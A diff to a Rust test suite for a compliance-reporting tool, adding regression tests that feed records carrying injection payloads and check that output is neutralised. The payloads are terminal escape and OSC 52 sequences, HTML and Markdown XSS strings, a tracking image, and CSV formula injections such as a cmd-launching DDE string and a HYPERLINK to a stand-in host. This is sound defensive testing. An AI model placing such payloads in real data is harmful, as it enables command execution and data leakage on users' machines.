@@ -103,11 +103,10 @@ fn assert_no_piece(text: &str, secret: &str, n: usize) {
 #[test]
 fn f7_a_secret_straddling_the_output_cut_leaks_no_piece() {
     let key = "3f9a0c7e-51b2-4d6e-9c0a-6b2f1e8d4a37";
-    // The key, then 3980 bytes: the last 4000 bytes of stderr begin 20 bytes into the key.
-    let script = format!(
-        "printf 'starting\\n' >&2\nprintf '%s' \"$HANDOVER_SECRET_LANSWEEPER_AGENT_KEY\" >&2\nhead -c 3979 /dev/zero | tr '\\0' 'z' >&2\nprintf '\\n' >&2\nexit 1\n"
-    );
-    let Some(all) = run_stand_in(key, &script) else {
+    // "starting\n" (9 bytes), the key (36), 3979 bytes: the last 4000 bytes of stderr (without its
+    // final newline) begin 24 bytes in, inside the key.
+    let script = "printf 'starting\\n' >&2\nprintf '%s' \"$HANDOVER_SECRET_LANSWEEPER_AGENT_KEY\" >&2\nhead -c 3979 /dev/zero | tr '\\0' 'z' >&2\nprintf '\\n' >&2\nexit 1\n";
+    let Some(all) = run_stand_in(key, script) else {
         return;
     };
     assert!(
@@ -191,5 +190,190 @@ fn epipe_a_closed_stdout_ends_quietly() {
         let stderr = String::from_utf8_lossy(&out.stderr);
         assert_eq!(out.status.code(), Some(0), "{args:?}: {stderr}");
         assert!(stderr.is_empty(), "{args:?}: {stderr}");
+    }
+}
+
+/// A record of a hostile device: its hostname, user, reason and warning carry terminal escape
+/// sequences, Markdown and HTML (the review's F18 samples) and spreadsheet formulas (F17).
+fn hostile_record(seq: u32, status: &str, hostname: &str, reason: &str) -> String {
+    serde_json::json!({
+        "record_version": 1,
+        "profile_digest": "sha256:ab",
+        "artifacts": {},
+        "previous": null,
+        "report": {
+            "tool": {"name": "handover", "version": "0.1.0"},
+            "mode": "check", "scope": "full",
+            "profile": {"name": "debian-12", "digest": "sha256:ab"},
+            "device": {"hostname": hostname, "serial": "SN1", "model": "m",
+                       "os": {"family": "linux", "id": "debian", "version": "12",
+                              "name": "Debian\u{1b}]52;c;Y2xpcGJvYXJk\u{7}"}},
+            "asset": " =HYPERLINK(\"http://evil/\"&A1)", "user": "jdoe\u{1b}[8m hidden",
+            "started_at": format!("2026-11-2{seq}T10:00:00Z"), "finished_at": format!("2026-11-2{seq}T10:00:00Z"),
+            "controls": [{"id": "firewall.enabled", "title": "Firewall", "policy": "7.1.5",
+                          "status": status, "changed": false, "reason": reason, "observed": {}, "duration_ms": 1}],
+            "summary": {"pass": (status == "pass") as usize, "fail": (status == "fail") as usize, "fixed": 0,
+                        "error": 0, "waived": 0, "not_applicable": 0, "manual": 0,
+                        "compliant": status == "pass"},
+            "warnings": ["see <img src=x onerror=alert(1)> and [click here](javascript:alert(1)) ![](http://evil.example/track.png)"]
+        }
+    })
+    .to_string()
+}
+
+const HOSTILE_HOST: &str = "h\u{1b}]0;PWNED-TITLE\u{7}\u{1b}[2Jcleared\u{9b}31m";
+const HOSTILE_REASON: &str = "ok\u{1b}]52;c;cGFzdGU=\u{7} <script>x</script> [a](javascript:b)";
+
+fn hostile_state() -> tempfile::TempDir {
+    let state = tempfile::tempdir().unwrap();
+    let records = state.path().join("records");
+    std::fs::create_dir_all(&records).unwrap();
+    std::fs::write(
+        records.join("000001-a-check-full.json"),
+        hostile_record(1, "fail", HOSTILE_HOST, "before"),
+    )
+    .unwrap();
+    std::fs::write(
+        records.join("000002-b-check-full.json"),
+        hostile_record(2, "pass", HOSTILE_HOST, HOSTILE_REASON),
+    )
+    .unwrap();
+    state
+}
+
+#[track_caller]
+fn assert_no_controls(what: &str, text: &str) {
+    assert!(
+        !text
+            .chars()
+            .any(|c| c.is_control() && c != '\n' && c != '\r'),
+        "{what} holds control characters: {text:?}"
+    );
+}
+
+#[test]
+fn f18_escape_and_osc_sequences_are_stripped_from_text_and_csv() {
+    let state = hostile_state();
+    let st = s(state.path());
+    let diff = Handover::new(&["record", "diff", "1", "2"])
+        .env("HANDOVER_STATE_DIR", st)
+        .run();
+    diff.expect_code(0);
+    assert_no_controls("record diff", &diff.stdout());
+    assert!(
+        diff.stdout().contains("firewall.enabled"),
+        "{}",
+        diff.stdout()
+    );
+
+    let merge = Handover::new(&[
+        "report",
+        "merge",
+        s(&state.path().join("records")),
+        "--format",
+        "csv",
+    ])
+    .run();
+    merge.expect_code(0);
+    let csv = merge.stdout();
+    // CRLF ends each row; no other control character is in a cell.
+    assert_no_controls("report merge --format csv", &csv.replace("\r\n", "\n"));
+    assert!(csv.contains("\"h]0;PWNED-TITLE[2Jcleared31m\""), "{csv}");
+
+    for format in ["md", "html"] {
+        let show = Handover::new(&["record", "show", "--format", format])
+            .env("HANDOVER_STATE_DIR", st)
+            .run();
+        show.expect_code(0);
+        assert_no_controls(format, &show.stdout());
+    }
+}
+
+#[test]
+fn f18_html_links_and_images_are_inert_in_the_markdown_sheet() {
+    let state = hostile_state();
+    let show = Handover::new(&["record", "show", "--format", "md"])
+        .env("HANDOVER_STATE_DIR", s(state.path()))
+        .run();
+    show.expect_code(0);
+    let md = show.stdout();
+    for raw in [
+        "<img",
+        "<script",
+        "[click here](",
+        "](javascript:",
+        "![](",
+        "[a](",
+    ] {
+        assert!(!md.contains(raw), "{raw:?} is live in the sheet:\n{md}");
+    }
+    for inert in [
+        "&lt;img src=x onerror=alert\\(1\\)&gt;",
+        "\\[click here\\]\\(javascript:alert\\(1\\)\\)",
+        "\\!\\[\\]\\(http://evil.example/track.png\\)",
+        "&lt;script&gt;x&lt;/script&gt;",
+    ] {
+        assert!(md.contains(inert), "missing {inert:?} in\n{md}");
+    }
+}
+
+#[test]
+fn f17_csv_cells_are_quoted_and_never_formulas() {
+    let dir = tempfile::tempdir().unwrap();
+    for (i, host) in [
+        " =1+1",
+        "x;=cmd|' /C calc'!A0",
+        "\u{ff1d}1+1",
+        "\t@SUM(A1)",
+        "-2+3",
+    ]
+    .iter()
+    .enumerate()
+    {
+        let rec = hostile_record(1, "pass", host, "r").replace("\"SN1\"", &format!("\"SN{i}\""));
+        std::fs::write(dir.path().join(format!("{i}.json")), rec).unwrap();
+    }
+    let r = Handover::new(&["report", "merge", s(dir.path()), "--format", "csv"]).run();
+    r.expect_code(0);
+    let csv = r.stdout();
+    for want in [
+        "\" '=1+1\"",
+        "\"x;'=cmd|' /C calc'!A0\"",
+        "\"'\u{ff1d}1+1\"",
+        "\" '@SUM(A1)\"",
+        "\"'-2+3\"",
+        "\" '=HYPERLINK(\"\"http://evil/\"\"&A1)\"",
+    ] {
+        assert!(csv.contains(want), "missing {want:?} in\n{csv}");
+    }
+    // Every cell is quoted: each line is "…","…",… with 18 cells.
+    for line in csv.lines() {
+        assert!(line.starts_with('"') && line.ends_with('"'), "{line}");
+    }
+}
+
+#[test]
+fn f17_merge_refuses_fifos_links_and_huge_files() {
+    let dir = tempfile::tempdir().unwrap();
+    let fifo = dir.path().join("hang.json");
+    let c = std::ffi::CString::new(fifo.to_str().unwrap()).unwrap();
+    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
+    let zero = dir.path().join("zero.json");
+    std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
+    let big = dir.path().join("big.json");
+    std::fs::File::create(&big)
+        .unwrap()
+        .set_len(1 << 30)
+        .unwrap();
+    for (f, why) in [
+        (&fifo, "not a regular file"),
+        (&zero, "symbolic link"),
+        (&big, "more than the"),
+    ] {
+        let started = std::time::Instant::now();
+        let r = Handover::new(&["report", "merge", s(f), "--format", "csv"]).run();
+        r.expect_code(2);
+        assert!(r.stderr().contains(why), "{}", r.stderr());
+        assert!(started.elapsed() < std::time::Duration::from_secs(20));
     }
 }
